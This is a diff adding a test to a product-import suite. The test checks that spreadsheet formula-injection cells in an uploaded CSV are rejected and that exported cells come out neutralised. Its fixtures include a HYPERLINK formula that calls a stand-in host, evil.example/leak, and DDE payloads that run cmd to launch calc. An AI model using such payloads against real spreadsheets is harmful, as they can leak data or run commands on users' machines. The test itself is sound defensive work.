@@ -98,6 +98,34 @@ describe('product import', () => {
     expect(taken.id).toBeGreaterThan(0);
   });
 
+  it('refuses a cell a spreadsheet would run as a formula, naming its line and column, and reads the export’s neutralised cells back (issue #26)', async () => {
+    const { cookie } = await signedInUser(ctx, { isAdmin: true });
+    const file = csv(
+      ';"=HYPERLINK(""http://evil.example/leak"";""Ver"")";Caixa.;Físico;;;2,00;1;0;;',
+      ';Caixa boa;@SUM(1+1)*cmd|\' /C calc\'!A0;Físico;;;2,00;1;0;;',
+      ';Caixa com desconto;Caixa.;Físico;"-2+3+cmd|\' /C calc\'!A0";;2,00;1;0;;',
+    );
+    const check = await send(cookie, file, true);
+    expect(check.status).toBe(200);
+    const formula = (column: string, sign: string) => `a coluna «${column}» começa por «${sign}», que uma folha de cálculo lê como fórmula; retire-o, ou escreva um apóstrofo (') antes dele.`;
+    expect(check.body.problems).toEqual([
+      { line: 2, message: formula('Nome', '=') },
+      { line: 3, message: formula('Descrição', '@') },
+      { line: 4, message: formula('Variante', '-') },
+    ]);
+    expect((await send(cookie, file, false)).body.imported).toBe(false);
+    expect(await named('Caixa boa')).toHaveLength(0);
+
+    // A product named like a formula by the admin's form goes out neutralised and comes back as it was.
+    await insertProduct(ctx, { name: '=Caixa+Tampa', description: '-Forte, com tampa.', priceCents: 450, stock: 3 });
+    const exported = (await ctx.app.inject({ method: 'GET', url: '/api/product/export.csv', headers: { cookie } })).body;
+    expect(exported).toContain(`"'=Caixa+Tampa";"'-Forte, com tampa."`);
+    const back = await send(cookie, exported, false);
+    expect(back.body).toMatchObject({ imported: true, problems: [] });
+    const [box] = await named('=Caixa+Tampa');
+    expect(box?.description).toBe('-Forte, com tampa.');
+  });
+
   it('refuses what is not the export’s CSV, and is for admins only', async () => {
     const { cookie } = await signedInUser(ctx, { isAdmin: true });
     const noStock = await send(cookie, 'Nome;Descrição;Tipo;Preço com IVA\nCaixa;Caixa.;Físico;2,00\n', true);
